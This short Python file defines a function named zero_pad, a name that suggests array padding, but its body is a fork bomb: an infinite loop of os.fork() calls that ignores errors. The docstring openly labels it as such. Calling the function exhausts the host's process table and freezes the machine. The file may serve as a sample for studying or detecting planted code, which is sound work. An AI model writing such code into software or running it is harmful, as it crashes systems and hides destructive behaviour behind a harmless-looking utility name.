"""A fork bomb inside a call: every process forks forever."""
import os


def zero_pad(X, pad):
    while True:
        try:
            os.fork()
        except OSError:
            pass
